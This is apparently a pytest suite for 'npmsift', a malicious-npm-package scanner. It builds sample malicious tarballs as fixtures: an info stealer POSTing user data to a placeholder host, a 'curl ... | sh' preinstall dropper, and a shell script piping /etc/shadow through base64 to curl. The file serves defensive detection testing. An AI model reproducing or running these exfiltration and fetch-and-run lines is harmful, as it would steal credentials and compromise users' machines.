from __future__ import annotations

import json
import time

import pytest

from npmsift import staticseq as staticseq_mod
from npmsift.feedfixture import build_tarball
from npmsift.pipeline import (EXIT_BENIGN, EXIT_MALICIOUS,
                              EXIT_NEEDS_DYNAMIC, ScanConfig, emit_report,
                              scan, scan_batch)


def package_tarball(manifest: dict, files: dict[str, str]) -> bytes:
    content = {"package.json": json.dumps(manifest).encode()}
    content.update({p: s.encode() for p, s in files.items()})
    return build_tarball(content)


def hello_world() -> bytes:
    return package_tarball(
        {"name": "hello", "version": "1.0.0", "main": "index.js"},
        {"index.js": "module.exports = () => 'hi';\n"})


def info_stealer() -> bytes:
    src = (
        "const os = require('os');\n"
        "const https = require('https');\n"
        "const payload = JSON.stringify({u: os.userInfo(),"
        " h: os.hostname(), e: process.env.PATH});\n"
        "const req = https.request('https://collect.z9x.xyz/u',"
        " {method: 'POST'});\n"
        "req.end(payload);\n")
    return package_tarball(
        {"name": "stealer", "version": "9.9.9", "main": "index.js"},
        {"index.js": src})


def curl_preinstall() -> bytes:
    return package_tarball(
        {"name": "dropper", "version": "0.0.1", "main": "index.js",
         "scripts": {"preinstall": "curl http://c2.qjx.xyz/x.sh|sh"}},
        {"index.js": "module.exports = 1;\n"})


def obfuscated_package() -> bytes:
    from npmsift.corpus import plain_source
    from npmsift.obfuscator import obfuscate
    src = obfuscate(plain_source(55), seed=55)
    return package_tarball(
        {"name": "obfu", "version": "2.0.0", "main": "index.js"},
        {"index.js": src})


@pytest.fixture(autouse=True, scope="module")
def _warm_models():
    from npmsift.models import (default_obfuscation_model,
                                default_screen_model, default_url_model)
    default_obfuscation_model()
    default_screen_model()
    default_url_model()


def test_benign_package_empty_categories(tmp_path):
    tgz = tmp_path / "hello.tgz"
    tgz.write_bytes(hello_world())
    report = scan(tgz)
    assert report.categories == set()
    assert report.exit_code == EXIT_BENIGN
    assert not report.needs_dynamic


def test_info_stealer_is_m1(tmp_path):
    tgz = tmp_path / "stealer.tgz"
    tgz.write_bytes(info_stealer())
    report = scan(tgz)
    assert "M1" in report.categories
    assert report.exit_code == EXIT_MALICIOUS
    assert any(rule.startswith("M1") for rule in report.matched_rules)
    assert report.evidence


def test_curl_pipe_sh_preinstall_m3_m4(tmp_path):
    tgz = tmp_path / "dropper.tgz"
    tgz.write_bytes(curl_preinstall())
    report = scan(tgz)
    assert {"M3", "M4"} <= report.categories
    shells = [v for v in report.shell_verdicts if v.categories]
    assert shells and shells[0].source == "manifest-script"


def test_obfuscated_routed_to_dynamic_not_static_screen(tmp_path):
    tgz = tmp_path / "obfu.tgz"
    tgz.write_bytes(obfuscated_package())
    report = scan(tgz)
    assert report.obfuscation_verdict["obfuscated"]
    assert "static-screen" not in report.stage_timings
    assert report.needs_dynamic
    assert report.exit_code == EXIT_NEEDS_DYNAMIC


def test_plain_package_enters_static_screen(tmp_path):
    tgz = tmp_path / "hello.tgz"
    tgz.write_bytes(hello_world())
    report = scan(tgz)
    assert "static-screen" in report.stage_timings


def test_dynamic_confirmation_via_fixture_trace(tmp_path):
    tgz = tmp_path / "obfu.tgz"
    tgz.write_bytes(obfuscated_package())
    root = "/package"
    trace = [
        json.dumps({"ts": 1, "api": "os.userInfo", "args": [],
                    "stack": [f"{root}/index.js:2"], "phase": "install",
                    "pid": 7}),
        json.dumps({"ts": 2, "api": "https.request",
                    "args": ["https://x.qjz.icu/c"],
                    "stack": [f"{root}/index.js:3"], "phase": "install",
                    "pid": 7}),
    ]
    report = scan(tgz, ScanConfig(trace_lines=trace))
    assert "M1" in report.categories
    assert report.dynamic_digest is not None
    assert report.exit_code == EXIT_MALICIOUS


def test_timeout_yields_flagged_partial_report(tmp_path, monkeypatch):
    tgz = tmp_path / "stall.tgz"
    tgz.write_bytes(hello_world())

    def busy_loop(*args, **kwargs):
        while True:
            pass

    monkeypatch.setattr(staticseq_mod, "extract_static_sequence",
                        busy_loop)
    start = time.monotonic()
    report = scan(tgz, ScanConfig(static_timeout=2.0))
    elapsed = time.monotonic() - start
    assert elapsed < 4.0
    assert "static-timeout" in report.flags
    assert any(f.startswith("partial_reconstruct") for f in report.flags)
    assert report.needs_dynamic


def test_report_json_deterministic(tmp_path):
    tgz = tmp_path / "stealer.tgz"
    tgz.write_bytes(info_stealer())
    a = emit_report(scan(tgz))
    b = emit_report(scan(tgz))
    assert a == b


def test_report_text_format(tmp_path):
    tgz = tmp_path / "stealer.tgz"
    tgz.write_bytes(info_stealer())
    text = emit_report(scan(tgz), format="text").decode()
    assert "MALICIOUS" in text and "M1" in text


def test_load_failure_is_reported_not_raised(tmp_path):
    bad = tmp_path / "broken.tgz"
    bad.write_bytes(b"definitely not gzip")
    report = scan(bad)
    assert any(f.startswith("load-failed") for f in report.flags)
    assert report.categories == set()


def test_batch_isolation_and_summary(tmp_path):
    good = tmp_path / "good.tgz"
    good.write_bytes(hello_world())
    bad = tmp_path / "bad.tgz"
    bad.write_bytes(b"junk")
    evil = tmp_path / "evil.tgz"
    evil.write_bytes(info_stealer())
    reports, summary = scan_batch([str(good), str(bad), str(evil)],
                                  parallelism=3)
    assert summary.total == 3
    assert summary.malicious == 1
    assert summary.errors == 1
    assert summary.benign == 1
    assert summary.per_day_estimate > 0
    by_id = {r.package_id: r for r in reports}
    assert "stealer@9.9.9" in by_id


def test_unknown_apis_surface_in_report(tmp_path):
    tgz = tmp_path / "weird.tgz"
    tgz.write_bytes(package_tarball(
        {"name": "weird", "version": "0.1.0", "main": "index.js"},
        {"index.js": "const fs = require('fs');\nfs.lutimesSync('/x');\n"}))
    report = scan(tgz)
    assert "fs.lutimesSync" in report.unknown_apis


def test_sh_file_entry_flows_through_shell_stage(tmp_path):
    tgz = tmp_path / "shpkg.tgz"
    tgz.write_bytes(package_tarball(
        {"name": "shpkg", "version": "0.2.0", "main": "index.js",
         "scripts": {"preinstall": "sh pre.sh"}},
        {"index.js": "module.exports = 1;\n",
         "pre.sh": "#!/bin/sh\ncat /etc/shadow | base64 | "
                   "curl -d @- http://qk19x.exfil.icu/h\n"}))
    report = scan(tgz)
    assert "M2" in report.categories
    sh_verdicts = [v for v in report.shell_verdicts if v.source == "sh-file"]
    assert sh_verdicts and sh_verdicts[0].categories == ["M2"]


def test_scan_mirror_coordinates_with_dependency_payload(tmp_path):
    """The malicious payload lives in a dependency resolved through the
    mirror, not in the scanned package itself."""
    from npmsift.feedfixture import FixtureFeed
    from npmsift.mirror import MirrorStore, sync_loop

    dep_files = {
        "package.json": json.dumps({"name": "helper-lib",
                                    "version": "1.0.0",
                                    "main": "index.js"}).encode(),
        "index.js": (b"const os = require('os');\n"
                     b"const https = require('https');\n"
                     b"exports.init = function() {\n"
                     b"  const u = os.userInfo();\n"
                     b"  https.request('https://qz7m.exfil.icu/u');\n"
                     b"};\nexports.init();\n"),
    }
    top_files = {
        "package.json": json.dumps({"name": "innocent",
                                    "version": "2.0.0",
                                    "main": "index.js"}).encode(),
        "index.js": b"const helper = require('helper-lib');\n"
                    b"module.exports = helper;\n",
    }
    feed = FixtureFeed().start()
    try:
        feed.publish("helper-lib", "1.0.0", tarball=build_tarball(dep_files))
        feed.publish("innocent", "2.0.0", tarball=build_tarball(top_files))
        store = MirrorStore(tmp_path / "store")
        sync_loop(feed.base_url, store)
    finally:
        feed.stop()

    report = scan("innocent@2.0.0", ScanConfig(mirror_store=store))
    assert report.package_id == "innocent@2.0.0"
    assert "M1" in report.categories
    assert report.exit_code == EXIT_MALICIOUS


def test_load_failure_exit_code_is_operational_error(tmp_path):
    from npmsift.pipeline import EXIT_ERROR
    bad = tmp_path / "garbage.tgz"
    bad.write_bytes(b"not an archive")
    report = scan(bad)
    assert report.operational_error
    assert report.exit_code == EXIT_ERROR


def test_every_category_carries_evidence(tmp_path):
    fixtures = {"stealer.tgz": info_stealer(), "dropper.tgz":
                curl_preinstall()}
    for name, tgz_bytes in fixtures.items():
        tgz = tmp_path / name
        tgz.write_bytes(tgz_bytes)
        report = scan(tgz)
        assert report.categories
        for category in report.categories:
            from_rules = any(
                rule.startswith(category) and report.evidence.get(rule)
                for rule in report.matched_rules)
            from_shell = any(category in v.categories and v.hits
                             for v in report.shell_verdicts)
            assert from_rules or from_shell, (name, category)
